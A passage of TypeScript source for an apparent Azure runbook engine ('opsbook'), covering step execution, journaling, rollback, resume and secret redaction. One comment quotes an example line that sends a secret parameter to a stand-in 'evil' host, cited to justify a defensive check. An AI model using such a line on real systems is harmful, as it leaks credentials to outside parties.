    // in Azure's Activity Log by `opsbook evidence verify` (evidence/witness.ts).
    const arm: ArmWrite[] = []
    // What an idempotent step found when it made no ARM write ("already deleted", "nothing pending"): verify checks it
    // against the Activity Log.
    const found: NoWriteFinding[] = []
    const withArm = () => ({...(arm.length > 0 ? {arm: [...arm]} : {}), ...(arm.length === 0 && found.length > 0 ? {found: [...found]} : {})})
    const finish = async (result: StepResult): Promise<StepResult> => {
      record.finishedAt = this.now().toISOString()
      record.durationMs = Math.round(performance.now() - started)
      if (result.ok) {
        record.status = 'succeeded'
        record.outputs = result.outputs
        // Not awaited: what follows (the next step's step.started, awaited before its action runs) is written after it,
        // so both share one fsync and nothing starts before this success is on disk. Delivery stays in order.
        void this.emit({type: 'step.succeeded', step: step.id, phase: step.phase, outputs: result.outputs, durationMs: record.durationMs, attempts: record.attempts, ...withArm()})
      } else {
        record.status = result.interrupted ? 'cancelled' : 'failed'
        record.error = errorInfo(result.error)
        // An action may hand over what it found before failing (e.g. the drill table of a missed objective).
        const partial = (result.error as {outputs?: unknown} | undefined)?.outputs
        if (typeof partial === 'object' && partial !== null && !Array.isArray(partial)) record.outputs = partial as Record<string, unknown>
        if (result.interrupted) record.error = {message: `interrupted: ${record.error.message}`, code: 'interrupted'}
        record.continued = !result.interrupted && continued
        await this.emit({
          type: 'step.failed',
          step: step.id,
          phase: step.phase,
          error: record.error,
          durationMs: record.durationMs,
          attempts: record.attempts,
          continued: record.continued,
          ...withArm(),
        })
        if (record.error.code === 'approval-required' || result.error instanceof ApprovalRequiredError) this.approvalRequired = true
      }
      return result
    }

    const action = this.findAction(step.call.uses)
    if (!action) return finish({ok: false, error: new EngineStepError(`unknown action "${step.call.uses}"`, 'unknown-action'), interrupted: false})
    // A step with no `timeout:` is bounded by its action's default: a hung Azure operation no longer waits for ever
    // (issue 16, item 5); past it the step times out as with `timeout:` (its operation still running: exit 3).
    const bound = stepBound(step.timeoutMs, action)
    if (bound?.fromDefault) step = {...step, timeoutMs: bound.ms, defaultOf: action.name}

    let inputs: Record<string, unknown>
    try {
      inputs = this.evaluateInputs(step, action)
    } catch (error) {
      await this.emit({type: 'step.started', step: step.id, phase: step.phase, uses: step.call.uses, attempt: 1, inputs: {}})
      return finish({ok: false, error, interrupted: false})
    }
    // A teardown change first knows whether every line before it is on disk: its step.started, once there, tells the
    // resume that teardown began (what it undoes is redone), so it is never written after a line that was lost.
    if (action.changes && step.phase !== 'main') await this.emitChain
    if (action.changes && this.journalError !== undefined) return this.deferUnrecordable(step, record, inputs)
    // Before its step.started: a teardown step journaled as started reads, to the resume, as teardown under way.
    if (action.changes && step.phase !== 'main') {
      const taken = await this.options.teardownGuard?.().catch(() => undefined)
      if (taken) {
        const message = `not started: ${taken}`
        record.status = 'cancelled'
        record.reason = message
        record.error = {message, code: 'lease-taken'}
        record.finishedAt = this.now().toISOString()
        record.durationMs = 0
        await this.emit({type: 'step.skipped', step: step.id, phase: step.phase, reason: message, code: 'lease-taken'})
        return {ok: false, error: new EngineStepError(message, 'lease-taken'), interrupted: false}
      }
    }
    // A target only known now (its input read another step's outputs) is journaled with the start, in the hash chain.
    const planned = step.phase === 'rollback' ? undefined : this.options.planTargets?.[step.id]
    const targets = action.changes && !planned?.length ? this.options.stepTargets?.(step.call.uses, inputs) : undefined
    const startShown = this.emit({type: 'step.started', step: step.id, phase: step.phase, uses: step.call.uses, attempt: 1, inputs, ...(targets?.length ? {targets} : {})})
    const startedAt = this.emitted
    // A change starts only once its step.started is on disk and shown (a crash then leaves it named for resume). A step
    // that changes nothing need not wait: its events are recorded and shown in order all the same, and whatever
    // follows that changes something waits for its own line, which is written after these.
    if (action.changes || !this.options.record) await startShown
    // Once the journal cannot be written (a full disk), no change is made that it cannot record — rollbacks and
    // `finally` included (issue 16). A teardown that ran unrecorded looked, to the resume, like a crash before
    // teardown: the resume kept the steps it had undone as completed and went on to verify a copy the teardown had
    // deleted. Left undone, they are named (exit 3) and `opsbook resume` runs them recorded — the crash case.
    // A `finally` change whose own step.started is on disk runs although a later line was lost: the resume reads that
    // line as the teardown done (what it undoes is made again), so leaving it undone would leave the first one behind.
    if (action.changes && this.journalError !== undefined && (step.phase !== 'finally' || this.journalLostAt <= startedAt))
      return this.deferUnrecordable(step, record, inputs)

    const maxAttempts = Math.max(1, step.retry?.attempts ?? 1)
    for (let attempt = 1; ; attempt++) {
      // The guard again at the moment the change would start (and before each retry): the lease may have been lost
      // while step.started was written and shown, or while the step waited to retry (issue 16: a change started after
      // the loss was journaled).
      const refused = step.phase === 'main' && action.changes ? await this.options.changeGuard?.() : undefined
      if (refused) {
        await this.emit({type: 'run.note', message: `not starting ${step.id}: ${refused}`, data: {refused: step.id}})
        return finish({ok: false, error: new EngineStepError(refused, 'lease-lost'), interrupted: false})
      }
      record.attempts = attempt
      if (action.changes) this.changeAttempted = true
      const result = await this.attempt(step, action, inputs, attempt, signal, arm, found)
      if (result.ok) {
        const parsed = action.output.safeParse(result.outputs ?? {})
        if (!parsed.success)
          return finish({ok: false, error: new EngineStepError(`${action.name} returned outputs that do not match its schema: ${issues(parsed.error)}`, 'bad-outputs'), interrupted: false})
        return finish({ok: true, outputs: (parsed.data ?? {}) as Record<string, unknown>})
      }
      if (result.interrupted || attempt >= maxAttempts || !isRetryable(result.error)) return finish(result)
      const delayMs = Math.round((step.retry?.backoffMs ?? 0) * 2 ** (attempt - 1))
      await this.emit({type: 'step.retrying', step: step.id, phase: step.phase, attempt: attempt + 1, error: errorInfo(result.error), delayMs})
      try {
        await abortableDelay(delayMs, signal)
      } catch {
        return finish({ok: false, error: result.error, interrupted: true})
      }
    }
  }

  /**
   * A changing step not started because the journal cannot record it: cancelled, its error coded `journal-failed`
   * (onFailure and rollback() turn that into what is left for `opsbook resume`).
   */
  private async deferUnrecordable(step: RunnableStep, record: StepRecord, inputs: Record<string, unknown>): Promise<StepResult> {
    const why = errorInfo(this.journalError).message
    const message = `not started: the journal cannot be written (${why}), and a change it cannot record is not made`
    record.status = 'cancelled'
    record.reason = message
    record.error = {message, code: 'journal-failed'}
    record.finishedAt = this.now().toISOString()
    record.durationMs = 0
    const shown = Object.entries(inputs).filter(([, v]) => v !== undefined && v !== null && v !== '')
    this.deferred.set(`${step.phase} ${step.id}`, shown.length > 0 ? ` {${shown.map(([k, v]) => `${k}: ${typeof v === 'string' ? v : JSON.stringify(v)}`).join(', ')}}` : '')
    await this.emit({type: 'step.skipped', step: step.id, phase: step.phase, reason: message})
    return {ok: false, error: new EngineStepError(message, 'journal-failed'), interrupted: false}
  }

  /**
   * What a teardown or rollback left undone for lack of a journal would have undone: the step with its inputs, and the
   * changes completed in its scope (what they made, by the outputs that name it), for the human reading exit 3.
   */
  private leftForResume(kind: string, step: {id: string; uses: string; phase: StepPhase}, scope: string | undefined | null, still?: string): string {
    const inputs = this.deferred.get(`${step.phase} ${step.id}`) ?? ''
    const inScope = (id: string) => scope !== null && (scope === undefined || id.startsWith(`${scope}.`))
    const made = this.completionOrder
      .filter((id) => inScope(id) && this.findAction(this.records.get(id)?.uses ?? '')?.changes && this.records.get(id)?.status === 'succeeded')
      .map((id) => {
        const outputs = this.records.get(id)!.outputs
        // What the outputs name it by: a copy's resource, else blobs written (an export), else the resource acted on.
        const blobs = Array.isArray(outputs.blobs) && outputs.blobs.length > 0 ? [outputs.storageAccount, outputs.container, outputs.blobs.join(', ')].filter(Boolean).join('/') : undefined
        const name = ['resourceId', 'server', 'database', 'account'].map((k) => outputs[k]).find((v) => typeof v === 'string') ?? blobs ?? ['cache', 'app', 'name'].map((k) => outputs[k]).find((v) => typeof v === 'string')
        return name ? `${id} → ${String(name)}` : id
      })
    return (
      `${kind} ${step.id} (${step.uses}${inputs}) was not run: the journal cannot be written (a change it cannot record is not made)` +
      `${made.length > 0 ? `; what it would undo is still in place (${made.join(', ')})` : ''}${still ? `; ${still}` : ''}` +
      ` — ${this.journalCause()}; once the journal can be written again, \`opsbook resume ${this.options.runId}\` continues the run and its teardown, recorded`
    )
  }

  /**
   * Why the journal cannot be written, named from the error code (a Node fs error's `code`, on the error or its cause,
   * else the code its message names), so the advice fits: free space only helps a full disk.
   */
  private journalCause(): string {
    let code: string | undefined
    for (let e = this.journalError as {code?: unknown; cause?: unknown; message?: unknown} | undefined, depth = 0; e && !code && depth < 5; e = e.cause as typeof e, depth++) {
      if (typeof e.code === 'string' && /^E[A-Z]+$/.test(e.code)) code = e.code
      else if (typeof e.message === 'string') code = /\b(E(?:NOSPC|DQUOT|FBIG|ROFS|IO))\b/.exec(e.message)?.[1]
    }
    if (code === 'ENOSPC' || code === 'EDQUOT') return 'the disk is full: free space'
    if (code === 'EFBIG') return 'the file-size limit (ulimit -f) is reached: raise it'
    if (code === 'EROFS') return 'the file system is read-only: make it writable'
    return 'the disk reported an error: check it'
  }

  /** Inputs with expressions evaluated, checked against the action's schema; secret inputs registered. */
  private evaluateInputs(step: RunnableStep, action: ActionDefinition): Record<string, unknown> {
    const raw = evaluateValue(step.call.with ?? {}, this.expressionContext(step.phase, step.instance, this.frameOf(step.id)))
    const parsed = action.input.safeParse(raw)
    if (!parsed.success) throw new EngineStepError(`invalid inputs for ${action.name}: ${issues(parsed.error)}`, 'invalid-inputs')
    const inputs = parsed.data as Record<string, unknown>
    for (const name of action.secretInputs ?? []) {
      const value = inputs[name]
      if (typeof value !== 'string') continue
      // Too short to redact (README, secrets): refused before the action sees it, rather than left showing.
      if (value.length > 0 && value.length < MIN_SECRET_LENGTH)
        throw new EngineStepError(`input ${name} of ${action.name} is a secret and must be at least ${MIN_SECRET_LENGTH} characters, so it can be kept out of output, journal and evidence`, 'invalid-inputs')
      this.redactor.add(value)
    }
    // A secret may reach only inputs that keep it here or that are meant for one (validate.ts, secret-sent-out): any
    // other input goes to Azure or another host — `http.check url: https://evil/${{ params.pw }}` sent the secret out
    // in the request line, redacted only in our own output (issue 16). Checked after evaluating, so a secret reaching
    // the input some way validation cannot see (a called runbook's param, a group output, a param named *Password)
    // is refused too, before the action runs and whatever the secret is.
    const kept = new Set([...(action.secretInputs ?? []), ...(action.localInputs ?? [])])
    for (const [name, value] of Object.entries(inputs))
      if (!kept.has(name) && this.redactor.holdsRegisteredSecret(value))
        throw new EngineStepError(
          `input ${name} of ${action.name} holds a secret, and ${action.name} would send it out of this machine (to Azure or another host); a secret may only reach inputs meant for one${kept.size > 0 ? ` (${[...kept].join(', ')})` : ''}`,
          'secret-sent-out',
        )
    return inputs
  }

  /** One attempt: the action races its own abort (timeout or Ctrl-C), so a step that ignores the signal still stops. */
  private async attempt(step: RunnableStep, action: ActionDefinition, inputs: Record<string, unknown>, attempt: number, runSignal: AbortSignal, arm: ArmWrite[] = [], found: NoWriteFinding[] = []): Promise<StepResult> {
    const timeout = new AbortController()
    // setLongTimeout: `timeout: P30D` overflowed setTimeout and timed the step out at once.
    const timer = step.timeoutMs === undefined ? undefined : setLongTimeout(() => timeout.abort(new StepTimeoutError(step.timeoutMs!, step.defaultOf)), step.timeoutMs)
    const signal = AbortSignal.any([runSignal, timeout.signal])
    let closed = false
    const context = this.actionContext(step, attempt, signal, () => closed)
    let onAbort: (() => void) | undefined
    const aborted = new Promise<never>((_, reject) => {
      onAbort = () => reject(signal.reason)
      if (signal.aborted) onAbort()
      else signal.addEventListener('abort', onAbort, {once: true})
    })
    aborted.catch(() => undefined)
    const running = collectArmWrites(arm, async () => action.run(inputs, context), found)
    try {
      const outputs = (await Promise.race([running, aborted])) as Record<string, unknown>
      return {ok: true, outputs}
    } catch (error) {
      if (signal.aborted) {
        // Give a well-behaved action a moment to stop before the step is declared over.
        await Promise.race([running.catch(() => undefined), delay(this.options.abortGraceMs ?? DEFAULT_ABORT_GRACE_MS)])
        if (runSignal.aborted) return {ok: false, error: runSignal.reason ?? error, interrupted: true}
        if (timeout.signal.aborted) return {ok: false, error: timeout.signal.reason, interrupted: false}
      }
      return {ok: false, error, interrupted: false}
    } finally {
      closed = true
      timer?.clear()
      if (onAbort) signal.removeEventListener('abort', onAbort)
      running.catch(() => undefined)
    }
  }

  private actionContext(step: RunnableStep, attempt: number, signal: AbortSignal, isClosed: () => boolean): ActionContext {
    const {options} = this
    const approver: Approver = {
      approve: async (request, approvalSignal) => {
        await this.emit({type: 'approval.requested', step: step.id, message: request.message})
        const given = typeof options.preApproved === 'function' ? options.preApproved(step.id) : options.preApproved?.[step.id]
        const decision = given ?? (await options.approver.approve(request, approvalSignal))
        await this.emit({type: 'approval.decided', step: step.id, decision})
        this.approvals.push({
          step: step.id,
          approved: decision.approved,
          by: decision.by,
          via: decision.via,
          at: this.now().toISOString(),
          ...(decision.reason ? {reason: decision.reason} : {}),
        })
        return decision
      },
    }
    return {
      runId: options.runId,
      stepId: step.id,
      attempt,
      signal,
      ended: this.ended.signal,
      log: (message) => {
        if (isClosed() || this.finished) return
        void this.emit({type: 'step.log', step: step.id, phase: step.phase, message: String(message)})
      },
      environmentName: options.environmentName,
      environment: options.environment,
      catalog: options.catalog,
      secret: (value) => {
        // A secret too short to redact (a Key Vault password of 3 characters) is refused rather than left showing.
        if (typeof value === 'string' && value.length > 0 && value.length < MIN_SECRET_LENGTH)
          throw new EngineStepError(`${step.call.uses}: a secret it read is shorter than ${MIN_SECRET_LENGTH} characters, which opsbook cannot keep out of output, journal and evidence; lengthen it`, 'secret-too-short')
        this.redactor.add(value)
      },
      preview: (text, max) => this.redactor.redactText(text).slice(0, max),
      approver,
      operations: {
        started: async (operation) => {
          this.changed = true
          const list = this.operations.get(step.id) ?? []
          list.push(operation)
          this.operations.set(step.id, list)
          if (this.finished) return
          await this.emit({type: 'operation.started', step: step.id, operation})
        },
        inFlight: () => (step.phase === 'main' ? options.resume?.inFlight[step.id] : undefined),
        interrupted: () => (step.phase === 'main' ? options.resume?.interrupted?.[step.id] : undefined),
        startedInRun: () => [...this.operations].flatMap(([id, list]) => list.map((operation) => ({step: id, operation}))),
        settled: (operation) => void this.settledOperations.add(operationKey(operation)),
      },
      services: options.services,
      now: this.now,
    }
  }

  // ── rollback ────────────────────────────────────────────────────────────────────────────────────────────────

  /** The completed steps a rollback (of the run, or of one group) undoes, in the order it undoes them. */
  private toRollBack(group?: string): string[] {
    const inside = (id: string) => group === undefined || id.startsWith(`${group}.`)
    return [...this.completionOrder].reverse().filter((id) => inside(id) && this.nodes.get(id)?.phase === 'main' && this.nodes.get(id)?.spec.rollback)
  }

  /**
   * Roll back completed steps in reverse completion order: all of them, or (`group`) those inside one group, which
   * then leave the completion order so the run's own rollback does not undo them twice.
   */
  private async rollback(group?: string, only?: string[]): Promise<void> {
    const specs = new Map([...this.nodes].filter(([, n]) => n.phase === 'main').map(([id, n]) => [id, n.spec]))
    const inside = (id: string) => group === undefined || id.startsWith(`${group}.`)
    // A resume finishing a failed run's teardown: only the rollbacks that run left, in the order it was to run them.
    const toRollBack = only?.filter((id) => specs.get(id)?.rollback) ?? this.toRollBack(group)
    if (group !== undefined) for (let i = this.completionOrder.length - 1; i >= 0; i--) if (inside(this.completionOrder[i]!)) this.completionOrder.splice(i, 1)
    if (toRollBack.length === 0) return
    await this.emit({type: 'rollback.started', steps: toRollBack})
    const failed: string[] = []
    for (const id of toRollBack) {
      const spec = specs.get(id)!
      const call = spec.rollback!
      const record = this.newRecord(id, call.uses, 'rollback')
      this.rollbackRecords.push(record)
      const result = await this.runStep({id, phase: 'rollback', call, timeoutMs: spec.timeoutMs, retry: spec.retry, instance: spec.instance}, record, this.teardownSignal, false)
      const main = this.records.get(id)!
      if (result.ok) {
        main.status = 'rolled-back'
      } else {
        // Not run for lack of a journal: the step's change stands, as after a crash (what the resume sees).
        if (record.error?.code !== 'journal-failed') main.status = 'rollback-failed'
        failed.push(id)
        this.teardownFailed = true
        this.leftBehind.push(
          record.error?.code === 'journal-failed'
            ? this.leftForResume('rollback of step', {id, uses: call.uses, phase: 'rollback'}, null, `what ${spec.uses} changed is still in place`)
            : `rollback of step ${id} (${call.uses}) failed: ${record.error?.message ?? 'unknown error'}; what ${spec.uses} changed is still in place`,
        )
      }
    }
    await this.emit({type: 'rollback.finished', ok: failed.length === 0, failed})
  }

  /**
   * Operations started by steps that did not finish: they may still be running in Azure. When the host can look
   * (inspectOperation), only what still remains after teardown is reported; the rest is noted in the journal.
   */
  private async noteStrayOperations(): Promise<void> {
    for (const [id, list] of this.operations) {
      const record = this.records.get(id)
      if (!record || record.status === 'succeeded' || record.status === 'rolled-back' || record.error?.operationEnded) continue
      for (const op of list) {
        if (this.settledOperations.has(operationKey(op))) {
          await this.emit({type: 'run.note', message: `step ${id}'s "${op.description}" was waited for and undone by teardown`})
          continue
        }
        const unchecked = `step ${id} started "${op.description}" (${op.method} ${op.resourceUrl}) and did not finish; it may still be running${op.monitorUrl ? `: ${op.monitorUrl}` : ''}`
        let seen: {remains: boolean; detail?: string} | undefined
        try {
          seen = await this.options.inspectOperation?.(op)
        } catch {
          seen = undefined
        }
        if (seen && !seen.remains) {
          await this.emit({type: 'run.note', message: `step ${id}'s "${op.description}" left nothing behind (checked: ${seen.detail ?? 'gone'})`})
          continue
        }
        this.leftBehind.push(seen ? `step ${id} started "${op.description}" (${op.method} ${op.resourceUrl}) and did not finish: ${seen.detail ?? 'it remains'}` : unchecked)
        // A failed run (a step timed out on a hung operation) with an operation of its own still running did not tear
        // down what that operation makes: a human must look (exit 3), and `opsbook resume` waits for it and finishes the
        // run — it ended exit 1, "already finished (failed)" to resume, with the operation running on (issue 16). An
        // interrupted run keeps its status (interrupted, resumable as it is); what it left makes its exit code 3 too
        // (runner.ts exitCodeForOutcome).
        if (!this.options.signal.aborted) this.teardownFailed = true
      }
    }
  }

  // ── context ─────────────────────────────────────────────────────────────────────────────────────────────────

  /**
   * What expressions read. forEach groups (see expand.ts): `steps.<group>` is, in a step expanded for item K, the
   * group's instance for K when there is one; everywhere else a map itemKey → outputs with an overall status.
   */
  private expressionContext(phase: StepPhase, instance?: StepSpec['instance'], frame: Frame = this.root): ExpressionContext {
    const {options} = this
    // Groups, innermost last: their own steps by local id, up to (and including) a called runbook, which sees no further.
    const chain: Frame[] = []
    for (let f: Frame | undefined = frame; f?.id; f = f.parent) {
      chain.unshift(f)
      if (f.callee) break
    }
    const call = chain.find((f) => f.callee)
    if (call) instance = undefined
    // Built only when an expression reads `steps`: building it for every step made a long chain quadratic.
    const build = () => this.stepsContext(chain, call !== undefined, instance)
    return call
      ? this.contextWith(build, call.params ?? {}, phase, undefined, frame)
      : this.contextWith(build, options.params, phase, instance, frame)
  }

  private stepsContext(chain: Frame[], inCall: boolean, instance: StepSpec['instance'] | undefined): ExpressionContext['steps'] {
    const steps: ExpressionContext['steps'] = {}
    // `error`: the message of a failed step, so a step after a `continueOnError` one can report what went wrong.
    const withError = (record: StepRecord) => (record.error ? {error: record.error.message} : {})
    const addLocals = () => {
      for (const f of chain)
        for (const [local, full] of f.locals) {
          const record = this.records.get(full)!
          steps[local] = {outputs: record.outputs, status: record.status, ...withError(record)}
        }
    }
    if (inCall) {
      addLocals()
      return steps
    }
    for (const [id, record] of this.records) if (!record.parent) steps[id] = {outputs: record.outputs, status: record.status, ...withError(record)}
    for (const [group, keys] of Object.entries(this.options.runbook.forEachGroups ?? {})) {
      const instances = keys.map((key) => [key, this.records.get(`${group}-${key}`)] as const).filter((e): e is readonly [string, StepRecord] => e[1] !== undefined)
      const own = instance && instances.find(([key]) => key === instance.item.key)
      const errors = instances.filter(([, r]) => r.error).map(([key, r]) => `${key}: ${r.error!.message}`)
      steps[group] = own
        ? {outputs: own[1].outputs, status: own[1].status, ...withError(own[1])}
        : {
            outputs: Object.fromEntries(instances.map(([key, r]) => [key, r.outputs])),
            status: groupStatus(instances.map(([, r]) => r.status)),
            ...(errors.length > 0 ? {error: errors.join('; ')} : {}),
          }
    }
    addLocals()
    return steps
  }

  private contextWith(buildSteps: () => ExpressionContext['steps'], params: Record<string, unknown>, phase: StepPhase, instance: StepSpec['instance'] | undefined, frame: Frame): ExpressionContext {
    const {options} = this
    let steps: ExpressionContext['steps'] | undefined
    return {
      ...(instance ? {item: instance.item as unknown as Record<string, unknown>} : {}),
      params,
      get steps() {
        return (steps ??= buildSteps())
      },
      env: {...options.environment, name: options.environmentName},
      catalog: options.catalog as unknown as Record<string, unknown>,
      run: {
        id: options.runId,
        startedAt: this.startedAt.toISOString(),
        runbook: options.runbook.name,
        environment: options.environmentName,
        production: options.environment.production,
      },
      // In a group's finally, failure() also means the group failed or the run was interrupted while it ran.
      failed: phase !== 'main' && (this.runFailed || frameFailed(frame) || (frame.id !== undefined && this.options.signal.aborted)),
      now: this.now,
      // Values computed from a secret become secrets themselves (issue 16: toJSON(toJSON(params.pw)) leaked).
      taint: this.redactor,
    }
  }

  private async evaluateOutputs(): Promise<Record<string, unknown>> {
    const outputs: Record<string, unknown> = {}
    const context = this.expressionContext('finally')
    for (const [key, value] of Object.entries(this.options.runbook.outputs ?? {})) {
      try {
        outputs[key] = evaluateValue(value, context)
      } catch (error) {
        outputs[key] = null
        await this.emit({type: 'run.note', message: `output ${key} could not be evaluated: ${errorInfo(error).message}`})
      }
    }
    return outputs
  }

  private registerSecretParams(): Record<string, unknown> {
    const safe: Record<string, unknown> = {}
    for (const [name, value] of Object.entries(this.options.params)) {
      const spec = this.options.runbook.params[name]
      if (spec?.type === 'secret') {
        if (value !== undefined && value !== null) this.redactor.add(String(value))
        safe[name] = REDACTED
      } else {
        // A string param named like a secret (adminPassword) is one: redacted everywhere, kept from leaving the
        // machine (evaluateInputs), not only under its own name.
        if (spec?.type === 'string' && typeof value === 'string' && isSensitiveKey(name)) this.redactor.add(value)
        safe[name] = value
      }
    }
    return safe
  }

  private restoreCompleted(): void {
    const completed = this.options.resume?.completed ?? {}
    for (const node of this.nodes.values()) {
      if (node.phase !== 'main') continue
      const step = node.spec
      const previous = completed[step.id]
      if (!previous) continue
      const record = this.records.get(step.id)!
      record.status = 'succeeded'
      record.outputs = previous.outputs ?? {}
      record.reason = 'completed before the resume'
      this.completionOrder.push(step.id)
    }
  }

  private newRecord(id: string, uses: string, phase: StepPhase, parent?: string): StepRecord {
    return {id, uses, phase, status: 'pending', attempts: 0, outputs: {}, ...(parent ? {parent} : {})}
  }
}

/** Whether a failure stopped this group or one around it (not the run: that is `runFailed`). */
function frameFailed(frame: Frame): boolean {
  for (let f: Frame | undefined = frame; f?.id; f = f.parent) if (f.failed) return true
  return false
}

/** One status for all instances of a forEach step: failed if any failed, succeeded when all did (or there are none). */
function groupStatus(statuses: StepStatus[]): StepStatus {
  if (statuses.every((s) => s === 'succeeded')) return 'succeeded'
  for (const s of ['failed', 'rollback-failed', 'running', 'pending', 'cancelled', 'rolled-back'] as const) if (statuses.includes(s)) return s
  return statuses.every((s) => s === 'skipped') ? 'skipped' : 'succeeded'
}

function issues(error: {issues: Array<{path: PropertyKey[]; message: string}>}): string {
  return error.issues.map((i) => (i.path.length > 0 ? `${i.path.map(String).join('.')}: ${i.message}` : i.message)).join('; ')
}

function delay(ms: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, ms))
}

function abortableDelay(ms: number, signal: AbortSignal): Promise<void> {
  return new Promise((resolve, reject) => {
    if (signal.aborted) return reject(signal.reason)
    const onAbort = () => {
      timer.clear()
      reject(signal.reason)
    }
    // A retry backoff is the runbook's: P30D must not overflow setTimeout into 1 ms.
    const timer = setLongTimeout(() => {
      signal.removeEventListener('abort', onAbort)
      resolve()
    }, ms)
    signal.addEventListener('abort', onAbort, {once: true})
  })
}

function operationKey(operation: TrackedOperation): string {
  return `${operation.method} ${operation.resourceUrl} ${operation.monitorUrl ?? ''}`
}

function signalName(signal: AbortSignal): string {
  const reason = signal.reason as unknown
  if (typeof reason === 'string') return reason
  if (reason instanceof Error && reason.message) return reason.message
  return 'SIGINT'
}
